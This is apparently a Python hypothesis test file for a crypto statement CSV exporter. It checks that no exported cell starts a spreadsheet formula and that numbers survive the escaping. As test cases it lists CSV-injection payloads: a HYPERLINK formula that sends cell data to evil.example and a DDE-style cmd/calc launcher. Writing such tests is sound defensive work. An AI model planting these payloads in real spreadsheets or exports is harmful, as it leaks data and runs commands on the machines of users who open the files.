"""The statement CSV (api/statement_csv.py) opened in a spreadsheet: no cell, whatever a token's
contract or a client's label says, is ever run as a formula, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from hypothesis import example, given
from hypothesis import strategies as st
from managed_accounts.api.statement_csv import render_csv, spreadsheet_safe
from managed_accounts.domain.movements import Asset, Movement
from managed_accounts.domain.report_models import ReportPeriod
from managed_accounts.domain.statement import AssetSummary, Statement, StatementLine

AT = datetime(2026, 11, 2, 9, 0, tzinfo=UTC)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
TEXT = st.text(max_size=30) | st.sampled_from(FORMULA_START).flatmap(
    lambda c: st.text(max_size=20).map(c.__add__)
)


def _statement(symbol: str, label: str, counterparty: str) -> Statement:
    token = Asset(key="0xtoken", symbol=symbol, decimals=6)
    movement = Movement(
        direction="In", occurred_at=AT, asset=token, amount_raw=1_500_000, status="Confirmed",
        counterparty=counterparty,
    )  # fmt: skip
    summary = AssetSummary(
        token, opening_raw=0, in_raw=1_500_000, out_raw=0, fees_raw=0, closing_raw=1_500_000
    )
    return Statement(
        client_id="alice", wallet_id="wa-1", address=None, network="EthereumSepolia",
        period=ReportPeriod(datetime(2026, 11, 1, tzinfo=UTC), datetime(2026, 12, 1, tzinfo=UTC)),
        generated_at=AT, balances=[summary], lines=[StatementLine(movement, counterparty_label=label)],
    )  # fmt: skip


@given(TEXT, TEXT, TEXT)
@example('=HYPERLINK("https://evil.example/?"&A1,"claim")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1")
def test_no_cell_of_the_statement_starts_a_formula(symbol: str, label: str, counterparty: str) -> None:
    """Found by review of hostile input: a token named =HYPERLINK(...) sent to a client's wallet put a
    live formula in the client's (and compliance's) spreadsheet."""
    rows = list(csv.reader(io.StringIO(render_csv(_statement(symbol, label, counterparty)), newline="")))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or cell.lstrip("-").replace(".", "", 1).isdigit(), cell


@given(st.integers() | st.decimals(allow_nan=False, allow_infinity=False, places=6))
def test_numbers_stay_numbers(number: object) -> None:
    assert spreadsheet_safe(str(number)) == str(number)


@given(st.text(max_size=30))
def test_escaping_only_ever_prepends_an_apostrophe(text: str) -> None:
    safe = spreadsheet_safe(text)
    assert safe in (text, "'" + text)
